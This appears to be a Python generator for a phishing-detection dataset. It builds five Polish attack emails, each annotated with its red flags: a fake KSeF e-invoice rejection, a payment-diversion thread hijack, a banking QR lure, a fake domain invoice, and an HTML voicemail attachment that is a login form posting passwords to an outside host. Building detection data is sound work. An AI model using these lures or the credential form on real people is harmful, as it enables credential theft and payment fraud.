"""Attack messages, Polish (5)."""
import hops
import ids
from assets import pdf_att, qr_att, html_att
from banking import fmt_iban
from common import Mail, Body, S, local
from textfmt import outlook_html, simple_html, esc


def m22():
    link = "https://ksef-weryfikacja.mf-gov.com.pl/logowanie?nip=%s&ref=FV-2026-11-0387" % ids.NIP_EXG_PL
    text = """Szanowni Państwo,

informujemy, że faktura ustrukturyzowana nr FV/2026/11/0387 wystawiona przez EXAMPLE GROUP POLSKA SP. Z O.O. (NIP %s) na rzecz PARTNER LOGISTIK SP. Z O.O. (NIP %s) nie została przyjęta w Krajowym Systemie e-Faktur.

Powód odrzucenia: wygaśnięcie uwierzytelnienia podmiotu (token autoryzacyjny nieważny od 30.11.2026).

Aby faktura mogła zostać ponownie przetworzona i otrzymać numer KSeF, osoba uprawniona musi w ciągu 24 godzin potwierdzić tożsamość podmiotu w Aplikacji Podatnika KSeF:

%s

Do czasu weryfikacji kolejne faktury wystawiane przez Państwa podmiot będą odrzucane, a kontrahenci nie będą mogli ich odebrać.

Wiadomość została wygenerowana automatycznie, prosimy na nią nie odpowiadać.

Ministerstwo Finansów
Krajowy System e-Faktur
""" % (ids.NIP_EXG_PL, ids.NIP_PARTNER, link)
    paras = text.split("\n\n")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>'
            '<body style="font-family:Arial,sans-serif;font-size:14px;color:#1b1b1b"><div style="border-top:6px solid #dc143c;max-width:640px;padding:18px">'
            '<p style="font-size:18px;font-weight:bold">Krajowy System e-Faktur</p>'
            + "".join("<p>%s</p>" % esc(p).replace("\n", "<br>") for p in paras[:3])
            + '<p><a href="%s" style="background:#0052a5;color:#fff;padding:10px 18px;text-decoration:none">Potwierdź tożsamość podmiotu</a></p>' % esc(link)
            + "".join("<p>%s</p>" % esc(p).replace("\n", "<br>") for p in paras[4:])
            + "</div></body></html>")
    inf = hops.home_pl(server="cloudserver094821.home.pl", ip="79.96.170.47", client_ip="91.243.44.130")
    inf.desc = "compromised mailbox of instalacje-kowalczyk.pl on home.pl shared hosting, PHPMailer"
    return Mail("ksef-faktura-odrzucona", "pl", local(2026, 12, 1, 8, 2, "PL"),
                ("KSeF - Ministerstwo Finansów", "biuro@instalacje-kowalczyk.pl"), [S("pl_acc")],
                "KSeF: faktura FV/2026/11/0387 odrzucona - wymagana weryfikacja podmiotu", inf,
                Body(plain=text, html=html, charset="iso-8859-2", cte="quoted-printable"),
                hdr_cs="iso-8859-2", hdr_enc="Q", hdr_label="iso-8859-2",
                what="E-invoicing credential phishing: fake KSeF (Polish national e-invoicing system) rejection notice demanding 're-authentication' of the company within 24 hours.",
                why="Ministry of Finance display name on a plumbing firm's compromised home.pl mailbox (PHPMailer); link to mf-gov.com.pl, not gov.pl; KSeF does not reject invoices by e-mail for an 'expired token'; 24-hour threat that all invoices will bounce. Topical for 2026 (mandatory KSeF).")


def m23():
    quoted = """From: Paweł Łukasiewicz <pawel.lukasiewicz@example.com>
Sent: Monday, November 9, 2026 2:18 PM
To: Tadeusz Zieliński <t.zielinski@partner-logistik.pl>
Subject: Rozliczenie usług magazynowych i transportu - październik 2026

Dzień dobry Panie Tadeuszu,

w załączeniu zestawienie usług za październik do uzgodnienia. Proszę o informację, czy zgadza się z Państwa fakturami.

Pozdrawiam
Paweł Łukasiewicz"""
    text = """Dzień dobry Panie Pawle,

dziękuję za zestawienie, zgadza się z naszymi fakturami. Zgodnie z ustaleniami z panią Katarzyną prosimy o uregulowanie faktur FV 1184/10/2026 i FV 1192/10/2026 (łącznie 86 412,50 zł) w tym tygodniu.

Jednocześnie informuję, że w związku z trwającym audytem naszego rachunku w ING płatności za październik prosimy wyjątkowo przelać na nasz rachunek pomocniczy:

mBank S.A.
%s
Tytułem: FV 1184/10/2026, FV 1192/10/2026

Rachunek zostanie zgłoszony do wykazu podatników VAT w ciągu kilku dni. Proszę o przesłanie potwierdzenia przelewu na ten adres. Przez najbliższe dni jestem w trasie i mam ograniczony zasięg, dlatego proszę o kontakt mailowy.

Pozdrawiam
Tadeusz Zieliński
Kierownik ds. transportu
Partner Logistik sp. z o.o.
ul. Kwidzyńska 6, 51-416 Wrocław
""" % fmt_iban(ids.PARTNER_MULE)
    inf = hops.exo("Partner Logistik tenant", "PA4PR03MB7421", "eurprd03.prod.outlook.com",
                   "EUR05-VI1-obe.outbound.protection.outlook.com", "mail-vi1eur05on2112.outbound.protection.outlook.com",
                   "40.107.21.112", lang="pl-PL", tenant_seed="partner-logistik.pl")
    inf.desc = "genuine Microsoft 365 tenant of partner-logistik.pl (mailbox compromised), Reply-To to look-alike partner-logistik.com.pl"
    return Mail("partner-logistik-hijack-konto", "pl", local(2026, 11, 10, 7, 48, "PL"),
                ("Tadeusz Zieliński", "t.zielinski@partner-logistik.pl"), [S("pl_acc")],
                "RE: Rozliczenie usług magazynowych i transportu - październik 2026", inf,
                Body(plain=text + "\n" + quoted + "\n", html=outlook_html(text, lang="PL", quoted=quoted), charset="iso-8859-2", cte="quoted-printable"),
                cc=[S("pl_mgr")], reply_to=("Tadeusz Zieliński", "t.zielinski@partner-logistik.com.pl"),
                hdr_cs="iso-8859-2", hdr_enc="Q", hdr_label="iso-8859-2",
                in_reply_to="<3c9e1f7a2b4d4e6f8a0b1c2d3e4f5a6b@EXCH02.corp.example.com>",
                references="<3c9e1f7a2b4d4e6f8a0b1c2d3e4f5a6b@EXCH02.corp.example.com>",
                what="Thread hijack from the genuinely compromised mailbox of partner Tadeusz Zieliński: reply in the real settlement thread redirecting 86,412.50 PLN to an mBank 'auxiliary account'.",
                why="Genuine sender and tenant, but Reply-To silently points to the look-alike partner-logistik.com.pl; the new account is admittedly not on the VAT white list (wykaz podatników VAT) - paying over 15,000 PLN to such an account is itself a red flag in Poland; 'audit at ING', no phone contact, asks for the transfer confirmation. Payment-diversion BEC.")


def m24():
    url = "https://pkobp-biznes.pl-autoryzacja.com/certyfikat/odnow?u=K.WOJCIK&s=8c41f2"
    text = """Szanowna Pani,

certyfikat autoryzacyjny powiązany z Pani profilem użytkownika w serwisie iPKO biznes (firma: EXAMPLE GROUP POLSKA SP. Z O.O.) wygasa 28.10.2026.

Po tym terminie nie będzie możliwe podpisywanie przelewów ani paczek płacowych, w tym wynagrodzeń za październik.

Aby odnowić certyfikat, zeskanuj kod QR aparatem w telefonie i potwierdź odnowienie w aplikacji mobilnej. Ze względów bezpieczeństwa odnowienie jest możliwe wyłącznie na urządzeniu mobilnym.

Z poważaniem
Zespół Bankowości Elektronicznej
PKO Bank Polski

Ta wiadomość została wysłana automatycznie. Prosimy nie odpowiadać.
"""
    paras = text.split("\n\n")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>'
            '<body style="font-family:Arial,sans-serif;font-size:14px"><table width="600" align="center" cellpadding="20">'
            '<tr><td style="background:#003574;color:#fff;font-size:18px;font-weight:bold">PKO Bank Polski &middot; iPKO biznes</td></tr><tr><td>'
            + "".join("<p>%s</p>" % esc(p).replace("\n", "<br>") for p in paras[:3])
            + '<p align="center"><img src="cid:qr-ipko@mg" width="180" height="180" alt="Kod QR"></p>'
            + "".join("<p>%s</p>" % esc(p).replace("\n", "<br>") for p in paras[3:])
            + "</td></tr></table></body></html>")
    inf = hops.mailgun("mg.pkobp-biznes-powiadomienia.pl", ip="159.135.224.18", rdns="m224-18.mailgun.net")
    return Mail("ipko-biznes-quishing", "pl", local(2026, 10, 26, 15, 44, "PL"),
                ("PKO Bank Polski", "powiadomienia@pkobp-biznes-powiadomienia.pl"), [S("pl_mgr")],
                "iPKO biznes: certyfikat autoryzacyjny wygasa 28.10.2026 - wymagane odnowienie", inf,
                Body(plain=text, html=html, charset="utf-8", cte="quoted-printable"),
                atts=[qr_att(url, "qr-ipko@mg", "qr.png")], hdr_cs="utf-8", hdr_enc="Q", hdr_label="UTF-8",
                what="Quishing against corporate e-banking: fake PKO BP notice that the iPKO biznes authorisation certificate expires; renewal only by scanning a QR code.",
                why="Bank branding from pkobp-biznes-powiadomienia.pl via Mailgun; the QR code decodes to pl-autoryzacja.com (not pkobp.pl); mobile-only 'renewal' evades desktop URL filtering; threat that October salaries cannot be paid.")


def m25():
    text = """Szanowni Państwo,

uprzejmie informujemy o konieczności opłacenia rejestracji domeny examplegroup.pl wraz z usługą pozycjonowania w wyszukiwarkach internetowych na okres 12 miesięcy.

Brak wpłaty do dnia 20.11.2026 skutkuje usunięciem danych z rejestru i możliwością rejestracji domeny przez inny podmiot.

Kwota do zapłaty: 1 229,00 zł (999,19 zł netto + 23%% VAT)
Odbiorca: Rejestr Domen Polska
Rachunek: %s
Tytułem: PF/2026/11/7741 examplegroup.pl

Faktura pro forma w załączniku. Faktura VAT zostanie wystawiona po zaksięgowaniu wpłaty.

Z poważaniem
Dział Rozliczeń
Rejestr Domen Polska
""" % fmt_iban(ids.DOMAIN_SCAM_PL)
    pdf = pdf_att("Proforma_PF_2026_11_7741.pdf", [
        "REJESTR DOMEN POLSKA", "Dział Rozliczeń", "",
        "FAKTURA PRO FORMA nr PF/2026/11/7741         Data: 06.11.2026", "",
        "Nabywca: EXAMPLE GROUP POLSKA SP. Z O.O.", "ul. Legnicka 55, 54-203 Wrocław", "NIP: " + ids.NIP_EXG_PL, "",
        "Lp  Nazwa usługi                                  Netto     VAT    Brutto",
        "1   Rejestracja domeny examplegroup.pl 12 m-cy     249,19    23%    306,50",
        "2   Pozycjonowanie SEO - pakiet Standard          750,00    23%    922,50",
        "    RAZEM                                         999,19           1229,00", "",
        "Termin płatności: 20.11.2026", "Rachunek: " + fmt_iban(ids.DOMAIN_SCAM_PL), "",
        "Niniejszy dokument stanowi ofertę handlową i nie jest fakturą VAT.",
        "Zapłata oznacza akceptację regulaminu usługi pozycjonowania dostępnego",
        "na stronie rejestr-domen-polska.eu. Rejestr Domen Polska nie jest",
        "rejestratorem akredytowanym przez NASK."], title="Proforma", author="RDP", creator="wkhtmltopdf 0.12.6", producer="Qt 4.8.7")
    inf = hops.postfix_host("VPS OVH", "mail.rejestr-domen-polska.eu", "vps-88c14e2a.vps.ovh.net", "146.59.211.74",
                            "mail.rejestr-domen-polska.eu", bstyle="phpmailer",
                            mailer=("X-Mailer", "PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)"),
                            msgid_fn=lambda ctx: "<%s@rejestr-domen-polska.eu>" % "".join(ctx.rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(32)),
                            desc="Postfix/PHPMailer on an OVH VPS, domain rejestr-domen-polska.eu")
    return Mail("domena-proforma-wezwanie", "pl", local(2026, 11, 6, 12, 20, "PL"),
                ("Rejestr Domen Polska", "rozliczenia@rejestr-domen-polska.eu"), [S("pl_acc")],
                "Ostateczne wezwanie - domena examplegroup.pl - faktura pro forma PF/2026/11/7741", inf,
                Body(plain=text, charset="windows-1250", cte="quoted-printable"),
                atts=[pdf], hdr_cs="windows-1250", hdr_enc="Q", hdr_label="windows-1250",
                what="Fake domain-registration invoice: pro forma for 'registering' examplegroup.pl plus SEO, styled as a final demand with a deletion threat.",
                why="Not the company's registrar; 'ostateczne wezwanie' and deletion threat, but the small print says it is only a commercial offer and the sender is not an accredited NASK registrar; payment to a private account. Classic Polish domain/SEO invoice scam.")


def m26():
    page = """<!DOCTYPE html>
<html lang="pl"><head><meta charset="utf-8"><title>Wiadomość głosowa</title>
<style>body{font-family:'Segoe UI',Arial,sans-serif;background:#f2f2f2}
.c{width:380px;margin:70px auto;background:#fff;padding:36px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%;padding:8px 0;border:0;border-bottom:1px solid #666;margin:12px 0;font-size:15px}
button{background:#0067b8;color:#fff;border:0;padding:9px 30px;float:right}</style></head>
<body><div class="c"><div style="font-size:20px;font-weight:600">Microsoft</div>
<p>Wiadomość głosowa (0:47) od +48 71 338 42 17<br>Zaloguj się, aby odsłuchać nagranie.</p>
<form method="post" action="https://voicemail-odsluch.web-cloudsrv.com/pl/auth">
<input type="email" name="u" value="katarzyna.wojcik@example.com">
<input type="password" name="p" placeholder="Hasło">
<button type="submit">Zaloguj</button></form><div style="clear:both"></div></div></body></html>
"""
    text = """Nowa wiadomość głosowa

Od: +48 71 338 42 17
Do: Katarzyna Wójcik
Długość: 0:47
Odebrano: 17.11.2026 09:26

Nagranie w załączniku. Otwórz plik, aby odsłuchać wiadomość w przeglądarce.

Poczta głosowa Example Group
"""
    inf = hops.exim_cpanel("compromised SMB (cPanel)", "srv24.hostingpl-cloud.net", "5.181.150.24", "User",
                           "177.136.10.92", "transport-zwierzchowski.pl", bstyle="generic",
                           msgid_fn=lambda ctx: "<%s@transport-zwierzchowski.pl>" % "".join(ctx.rng.choice("0123456789abcdef") for _ in range(32)),
                           desc="compromised mailbox of a transport firm on cPanel/Exim shared hosting, submitted from Brazil")
    return Mail("poczta-glosowa-html", "pl", local(2026, 11, 17, 9, 31, "PL"),
                ("Poczta głosowa Example Group", "biuro@transport-zwierzchowski.pl"), [S("pl_mgr")],
                "Nowa wiadomość głosowa od +48 71 338 42 17 (0:47)", inf,
                Body(plain=text, html=simple_html(text), charset="utf-8", cte="quoted-printable"),
                atts=[html_att("Wiadomosc_glosowa_+48713384217_0m47s.htm", page, note="fake Microsoft login posting to web-cloudsrv.com, no script")],
                hdr_cs="utf-8", hdr_enc="Q", hdr_label="UTF-8",
                what="Voicemail-notification phishing: 'voicemail system of Example Group' sends an HTML 'recording' that is a Microsoft sign-in form.",
                why="The company's 3CX PBX sends voicemails internally via mail-int01 with a WAV file (see business hard negative); this comes from a transport company's compromised cPanel mailbox, and the attachment is a local credential form with the manager's address prefilled posting to web-cloudsrv.com.")


def messages():
    return [m22(), m23(), m24(), m25(), m26()]
